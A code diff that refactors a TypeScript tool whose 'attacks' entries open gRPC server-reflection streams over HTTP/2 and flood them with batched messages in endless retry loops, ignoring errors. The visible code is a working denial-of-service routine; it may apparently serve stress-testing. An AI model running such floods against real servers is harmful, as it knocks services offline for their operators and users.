@@ -44,6 +44,18 @@ function h2(): http2.ClientHttp2Session {
   return session;
 }
 
+/** A server-reflection stream on session (errors ignored: the attack goes on). */
+function reflectionStream(session: http2.ClientHttp2Session): http2.ClientHttp2Stream {
+  const stream = session.request({
+    ":method": "POST",
+    ":path": "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
+    "content-type": "application/grpc",
+    te: "trailers",
+  });
+  stream.on("error", () => {});
+  return stream;
+}
+
 /** Runs body again whenever it ends or fails, forever. */
 function forever(body: () => Promise<unknown>): void {
   const again = () => void body().then(again, () => setTimeout(again, 50));
@@ -100,13 +112,7 @@ const attacks: Record<string, () => Promise<void> | void> = {
     const batch = Buffer.concat(Array.from({ length: 1000 }, () => grpcMessage(Buffer.from([0x3a, 0x00]))));
     forever(async () => {
       const session = h2();
-      const stream = session.request({
-        ":method": "POST",
-        ":path": "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
-        "content-type": "application/grpc",
-        te: "trailers",
-      });
-      stream.on("error", () => {});
+      const stream = reflectionStream(session);
       await new Promise<void>((resolve) => {
         const pump = () => {
           while (!stream.destroyed && stream.write(batch));
@@ -126,13 +132,7 @@ const attacks: Record<string, () => Promise<void> | void> = {
     const batch = Buffer.concat(Array.from({ length: 150 }, () => one));
     forever(async () => {
       const session = h2();
-      const stream = session.request({
-        ":method": "POST",
-        ":path": "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
-        "content-type": "application/grpc",
-        te: "trailers",
-      });
-      stream.on("error", () => {});
+      const stream = reflectionStream(session);
       stream.resume();
       const timer = setInterval(() => !stream.destroyed && stream.write(batch), 100);
       await new Promise((resolve) => stream.on("close", resolve));
